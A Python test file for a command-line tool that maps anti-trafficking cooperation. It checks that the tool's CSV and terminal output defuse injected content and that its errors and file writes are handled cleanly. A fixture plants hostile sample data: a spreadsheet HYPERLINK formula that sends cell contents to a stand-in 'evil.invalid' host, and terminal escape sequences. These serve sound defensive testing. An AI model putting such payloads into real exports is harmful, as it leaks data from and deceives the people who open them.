"""Security and reliability of the outputs (issue 16): one projection for show and path, formula-safe CSV,
terminal-safe text, errors as messages (never a traceback), file modes kept by atomic writes.

Real data, real processes: the CLI runs in-process through click's runner, or as a real ``python`` child
process where exit codes, signals, streams and resource limits matter.
"""

import csv
import io
import json
import os
import re
import resource
import shutil
import signal
import stat
import subprocess
import sys

import pytest

from graph.kb.build import ROOT

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
ESCAPES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def coopmap(*args, env=None, preexec_fn=None, **kw):
    """Run the CLI as a real process in the repository; returns the CompletedProcess (text)."""
    full_env = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    return subprocess.run([sys.executable, "-c", "import cli; cli.main()", *args], cwd=ROOT, env=full_env,
                          capture_output=True, text=True, preexec_fn=preexec_fn, **kw)


def no_traceback(text):
    return "Traceback" not in text and 'File "' not in text


# ---------------------------------------------------------------- one projection: show and path agree


def test_show_and_path_agree_on_every_link(store):
    """Every link `show` prints reads, cites and is based on exactly what `path` and `contact` say of it."""
    from graph.network.describe import describe_actor
    from graph.network.routing import describe_step
    from graph.network.view import load_view

    G = load_view(audience="clear")
    stated = {(u, v, k) for u, v, k, d in G.edges(keys=True, data=True) if d["origin"] == "link" and not d["mirror"]}
    assert len(stated) > 80, "the real data has its links"
    seen = set()
    for actor in sorted({u for u, _, _ in stated}):
        for link in describe_actor(store, actor, G=G)["links"]:
            if link["direction"] != "out":
                continue
            key = (actor, link["actor_iri"], link["iri"])
            step = describe_step(G, *key)
            assert link["legal_basis"] == [b["title"] for b in step["legal_basis"]], key
            assert link["condition"] == step["condition"] and link["sources"] == step["sources"], key
            assert link["reads"] == step["reads"] and link["kind"] == step["kind"], key
            seen.add(key)
    assert seen == stated, "show lists every stated link of the view, and nothing else"


def test_show_prints_the_legal_basis_as_path_does(invoke):
    """The legal basis of a link, article and act ("Article 19, Directive 2011/36/EU ..."), reads the same in
    `show` and in `path` (issue 14: show used to print "Article 19" alone)."""
    from graph.network.view import load_view

    G = load_view(audience="clear")
    found = 0
    for u, v, _k, d in sorted(G.edges(keys=True, data=True)):
        if d["origin"] != "link" or d["mirror"] or not d["referral"] or not any(", " in b["title"] for b in d["legal_basis"]):
            continue
        path = invoke("path", u, v, "--kinds", d["kind"], "--as-of", str(d.get("start") or d.get("stated_on") or "2024")[:4])
        if path.exit_code != 0:
            continue
        show = invoke("show", u).output
        for b in d["legal_basis"]:
            assert f"legal basis: {b['title']}" in show and b["title"] in path.output, (u, v, b["title"])
        found += 1
    assert found >= 1, "a link whose legal basis is an article of an act, on a path"


# ---------------------------------------------------------------- hostile data: formulas and escapes


HOSTILE_LABEL = '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The real data plus an actor, a link and a figure whose texts are spreadsheet formulas and terminal
    escape sequences (a clear screen, a cursor-up-and-overwrite, a window title)."""
    root = tmp_path_factory.mktemp("hostile")
    data = root / "data"
    shutil.copytree(ROOT / "data", data)
    esc = "\\u001B"
    label = HOSTILE_LABEL.replace('"', '\\"')
    (data / "zz-hostile.ttl").write_text(f"""
@prefix coop: <https://w3id.org/coopmap/def#> . @prefix actor: <https://w3id.org/coopmap/id/actor/> .
@prefix link: <https://w3id.org/coopmap/id/link/> . @prefix doc: <https://w3id.org/coopmap/id/document/> .
@prefix kind: <https://w3id.org/coopmap/scheme/actor-kind/> . @prefix level: <https://w3id.org/coopmap/scheme/level/> .
@prefix lk: <https://w3id.org/coopmap/scheme/link-kind/> . @prefix tlp: <https://w3id.org/coopmap/scheme/tlp/> .
@prefix mandate: <https://w3id.org/coopmap/scheme/mandate/> . @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> . @prefix prov: <http://www.w3.org/ns/prov#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
actor:zz-hostile a coop:Actor ; skos:prefLabel "{label}"@en ; skos:altLabel "@SUM(1+1)" ;
    coop:actorKind kind:ngo ; coop:level level:national ; coop:mandate mandate:victim-support ;
    rdfs:comment "Shelter{esc}[2J{esc}]0;pwned{esc}\\\\ desk"@en ;
    coop:citation [ a coop:Citation ; prov:entity doc:emn-lu-2024-thb-international ; coop:locator "Q12b" ;
                    coop:quote "Luxembourg can also request an exchange of information via Europol or Interpol." ] ;
    dcterms:accessRights tlp:clear .
link:zz-hostile-referral a coop:Link ; coop:linkKind lk:refers-victims-to ; coop:serves mandate:victim-support ;
    coop:from actor:lu-itm ; coop:to actor:zz-hostile ;
    coop:condition "-1+1 when{esc}[1A{esc}[2K\\rFAKE: call +000 nobody"@en ;
    coop:citation [ a coop:Citation ; prov:entity doc:emn-lu-2024-thb-international ; coop:locator "Q12b" ;
                    coop:quote "Luxembourg can also request an exchange of information via Europol or Interpol." ] ;
    dcterms:accessRights tlp:clear .
""", encoding="utf-8")
    return data, root / "cache"


@pytest.fixture()
def hostile_env(hostile, monkeypatch):
    data, cache = hostile
    monkeypatch.setenv("COOPMAP_DATA", str(data))
    monkeypatch.setenv("COOPMAP_CACHE", str(cache))
    return data


def _cells(text, delimiter=","):
    quoting = csv.QUOTE_NONE if delimiter == "\t" else csv.QUOTE_MINIMAL  # TSV has no CSV quoting
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter, quoting=quoting))
    assert len(rows) > 1, text[:300]
    return [c for row in rows for c in row]


def _formula_cells(text, delimiter=","):
    return [c for c in _cells(text, delimiter) if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


@pytest.mark.parametrize("args", [
    ["actors"], ["actors", "--mandate", "victim-support"], ["show", "lu-itm"],
    ["contact", "--from", "ITM", "--need", "victim-support", "--top", "0"], ["path", "ITM", "zz-hostile"],
    ["gaps"], ["centrality", "--top", "1000"], ["diff", "--from", "1990", "--to", "2030"],
], ids=lambda a: " ".join(a[:2]))
def test_no_csv_cell_starts_a_formula(hostile_env, invoke, args):
    result = invoke(*args, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert _formula_cells(result.stdout) == []
    if args[0] in ("actors", "show", "path", "contact", "centrality"):
        neutralised = [c for c in _cells(result.stdout) if c.startswith(("'=HYPERLINK", "'@SUM", "'-1+1 when"))]
        assert neutralised, "the hostile text was there, neutralised"


@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
def test_query_csv_and_tsv_cells_start_no_formula(hostile_env, invoke, fmt, delimiter):
    result = invoke("query", "SELECT ?label ?n WHERE { ?a skos:prefLabel|skos:altLabel ?label BIND(-3 AS ?n) }",
                    "--no-inference", "--format", fmt)
    assert result.exit_code == 0, result.output
    assert _formula_cells(result.stdout, delimiter) == []
    assert HOSTILE_LABEL.split("(")[0][1:] in result.stdout and "-3" in result.stdout, "texts and numbers are all there"


@pytest.mark.parametrize("args", [
    ["show", "lu-itm"], ["show", "zz-hostile"], ["actors"], ["contact", "--from", "ITM", "--need", "victim-support"],
    ["path", "ITM", "zz-hostile"], ["gaps"], ["centrality", "--top", "1000"],
    ["query", "SELECT ?c WHERE { ?l coop:condition ?c }", "--no-inference"],
], ids=lambda a: " ".join(a[:2]))
@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_no_escape_sequence_reaches_the_terminal(hostile_env, invoke, args, fmt):
    result = invoke(*args, "--format", fmt)
    assert result.exit_code == 0, result.output
    assert ESCAPES.findall(result.stdout) == [], repr(result.stdout[:500])
    assert "\n" in result.stdout.strip() or fmt == "csv", "newlines kept where the layout needs them"


def test_the_escapes_were_in_the_data(hostile_env, invoke):
    """The hostile texts reach the answers (their printable parts), so the tests above test something."""
    shown = invoke("show", "ITM").stdout
    assert "-1+1 when" in shown and "FAKE: call +000 nobody" in shown
    raw = invoke("query", "SELECT ?c WHERE { ?l coop:condition ?c FILTER(CONTAINS(?c, 'FAKE')) }", "--no-inference",
                 "--format", "json").stdout
    assert "\\u001b[1a" in raw.lower(), "JSON keeps the escape as an escape: data, not terminal control"


def test_error_messages_echo_no_escape_sequence(invoke):
    result = invoke("show", "\x1b]0;pwned\x07\x1b[2JITMX")
    assert result.exit_code == 1
    assert "No actor called" in result.output and ESCAPES.findall(result.output) == []


def test_terminal_safe_keeps_text_and_layout():
    from graph.render.safe import terminal_safe

    assert terminal_safe("Comité de suivi — 24/7\n  next\tcol") == "Comité de suivi — 24/7\n  next\tcol"
    assert terminal_safe("a\x1b[31mred\x1b[0m\x9b2Jb\u202eevil") == "aredbevil"
    assert terminal_safe("x,y\r\n1,2\r\n") == "x,y\r\n1,2\r\n", "CSV line ends stay"


# ---------------------------------------------------------------- errors: messages, never a traceback


def test_export_into_a_missing_folder_is_a_message(tmp_path, store):
    r = coopmap("export", "-o", str(tmp_path / "missing" / "out.ttl"))
    assert r.returncode == 1 and no_traceback(r.stderr), r.stderr
    assert r.stderr.startswith("Error: Cannot write") and "does not exist" in r.stderr and len(r.stderr.splitlines()) == 1


@pytest.mark.parametrize("command", [["export"], ["map"]])
def test_output_into_an_unwritable_place_is_a_message(tmp_path, store, command):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    targets = [blocker / "out.html"]  # a "folder" that is a file: unwritable for root too
    if os.geteuid() != 0:
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        targets.append(locked / "out.html")
    for target in targets:
        r = coopmap(*command, "-o", str(target))
        assert r.returncode == 1 and no_traceback(r.stderr), r.stderr
        assert r.stderr.startswith("Error: ") and str(target.parent) in r.stderr, r.stderr
        assert not list(tmp_path.rglob("*.part")), "no temporary file left"


def _limit_file_size(limit):
    def apply():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


def test_a_full_disk_leaves_the_old_file_and_no_part_file(tmp_path, store):
    """A real file-size limit (RLIMIT_FSIZE) makes the export fail mid-write, as a full disk does."""
    target = tmp_path / "coopmap.nt"
    target.write_text("the previous export\n")
    target.chmod(0o600)
    r = coopmap("export", "--format", "nt", "-o", str(target), preexec_fn=_limit_file_size(64 * 1024))
    assert r.returncode == 1 and no_traceback(r.stderr), r.stderr
    assert r.stderr.startswith(f"Error: Cannot write {target}") and len(r.stderr.splitlines()) == 1, r.stderr
    assert target.read_text() == "the previous export\n" and stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["coopmap.nt"], "no .part file holding the data"


def test_export_over_a_private_file_keeps_its_mode(tmp_path, invoke, store):
    target = tmp_path / "private.ttl"
    target.write_text("old")
    target.chmod(0o600)
    assert invoke("export", "-o", str(target)).exit_code == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600 and target.stat().st_size > 1000


def test_atomic_write_keeps_the_mode_and_leaves_nothing_on_failure(tmp_path):
    from graph.core.errors import CoopmapError
    from graph.core.files import atomic_write, atomic_writer

    p = tmp_path / "secret.json"
    p.write_text("{}")
    p.chmod(0o600)
    atomic_write(p, '{"a": 1}')
    assert stat.S_IMODE(p.stat().st_mode) == 0o600 and json.loads(p.read_text()) == {"a": 1}
    with pytest.raises(ZeroDivisionError):
        with atomic_writer(p) as f:
            f.write("half")
            raise ZeroDivisionError("a crash in the middle of writing")
    assert json.loads(p.read_text()) == {"a": 1} and [x.name for x in tmp_path.iterdir()] == ["secret.json"]
    with pytest.raises(CoopmapError, match="does not exist"):
        atomic_write(tmp_path / "nowhere" / "x", "data")


def test_query_file_that_is_not_utf8_is_a_message(tmp_path, store):
    bad = tmp_path / "bad.rq"
    bad.write_bytes(b"SELECT * WHERE { ?s ?p \xff\xfe ?o }")
    r = coopmap("query", "-f", str(bad))
    assert r.returncode == 1 and no_traceback(r.stderr), r.stderr
    assert r.stderr.strip() == f"Error: {bad} is not valid UTF-8 (byte 0xff at byte 23). Save it as UTF-8."


def test_an_unexpected_error_is_one_line_and_a_traceback_only_when_asked(tmp_path, project, store):
    """A corrupted cache file (a real fault, here a truncated view pickle) is an error nobody planned for."""
    from graph.network.view import load_view, view_path

    load_view(project)  # the view is cached on disk before the cache is copied

    cache = tmp_path / "cache"
    shutil.copytree(project.cache_root, cache)
    # the view of this project's data version (the session cache may hold other versions too)
    pickle_file = cache / view_path(project).relative_to(project.cache_root)
    assert pickle_file.is_file()
    pickle_file.write_bytes(b"\x80\x05garbage")
    env = {"COOPMAP_CACHE": str(cache)}
    r = coopmap("contact", "--from", "ITM", "--need", "victim-support", env=env)
    assert r.returncode == 1 and no_traceback(r.stderr), r.stderr
    assert r.stderr.startswith("Error: unexpected ") and "COOPMAP_DEBUG=1" in r.stderr and len(r.stderr.splitlines()) == 1
    debug = coopmap("contact", "--from", "ITM", "--need", "victim-support", env={**env, "COOPMAP_DEBUG": "1"})
    assert debug.returncode == 1 and "Traceback" in debug.stderr


def test_ctrl_c_exits_130_without_a_traceback(tmp_path, project, store):
    """SIGINT while the entailments are computed (the command says so on stderr first)."""
    cache = tmp_path / "cache"
    shutil.copytree(project.cache_root, cache)
    for f in cache.glob("*/inferred-*"):
        f.unlink()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COOPMAP_CACHE": str(cache)}
    p = subprocess.Popen([sys.executable, "-c", "import cli; cli.main()", "query", "ASK { ?s ?p ?o }", "--audience", "red"],
                         cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    first = p.stderr.readline()
    assert first.startswith("Computing the RDFS/OWL-RL entailments"), first
    p.send_signal(signal.SIGINT)
    out, err = p.communicate(timeout=120)
    assert p.returncode == 130, (p.returncode, err)
    assert err.strip() == "Interrupted." and no_traceback(err)


def test_a_closed_pipe_is_not_an_error(store):
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    p = subprocess.Popen([sys.executable, "-c", "import cli; cli.main()", "export", "--format", "nt"], cwd=ROOT, env=env,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    p.stdout.readline()
    p.stdout.close()  # as `coopmap export | head -1` does
    err = p.stderr.read().decode()
    p.wait(timeout=120)
    assert no_traceback(err) and "Exception ignored" not in err, err


def test_the_compiled_cache_is_private(project, store):
    """The compiled graph holds every fact, at every level: its folder is readable by its owner only."""
    folders = [p.parent for p in project.cache_root.glob("*/meta.json")]
    assert folders, "the glob found the compiled folder"
    for folder in folders:
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
